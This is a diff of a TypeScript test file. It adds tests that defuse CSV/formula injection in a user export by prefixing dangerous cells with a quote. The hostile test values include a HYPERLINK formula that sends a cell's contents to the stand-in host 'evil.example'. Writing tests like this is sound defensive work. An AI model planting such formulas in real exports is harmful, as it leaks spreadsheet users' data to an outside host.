@@ -1,5 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import { LocalSecretBox, localSecretBoxCalls } from '../../shared/adapters/secrets/local-secret-box';
+import { exportField, importCell, spreadsheetCell } from '../../shared/domain/jobs/csv';
 import { scanCsv } from '../../shared/domain/jobs/manifest';
 import { PayloadTooLargeError, ValidationError } from '../../shared/domain/errors';
 import { oathSecretContext } from '../../shared/domain/otp/records';
@@ -52,5 +53,24 @@ describe('R28 token secrets sealed per batch (envelope)', () => {
     await expect(box.sealMany([{ plaintext: secrets[0] as Buffer, context: oathSecretContext('tn_a', 'X') }, { plaintext: secrets[1] as Buffer, context: oathSecretContext('tn_b', 'Y') }])).rejects.toThrow(
       'share their kind and tenant',
     );
+  });
+});
+
+describe('R19 users export: cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '+14155550100', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', "'=already", "''+twice"];
+
+  it.each(hostile)('defuses %j with one leading quote, quoted, and a user import takes exactly that quote away', (value) => {
+    const cell = spreadsheetCell(value);
+    expect(cell).toBe(`'${value}`);
+    expect(exportField(value)).toBe(`"${cell.replace(/"/g, '""')}"`);
+    expect(importCell(cell)).toBe(value);
+  });
+
+  it('leaves every other cell as it was, a leading quote before plain text included', () => {
+    for (const value of ['Ann', "O'Neill", "'Abdu", 'ann@example.com', '', 'a=b']) {
+      expect(spreadsheetCell(value)).toBe(value);
+      expect(importCell(value)).toBe(value);
+    }
+    expect(exportField('Smith, Jr.')).toBe('"Smith, Jr."');
   });
 });
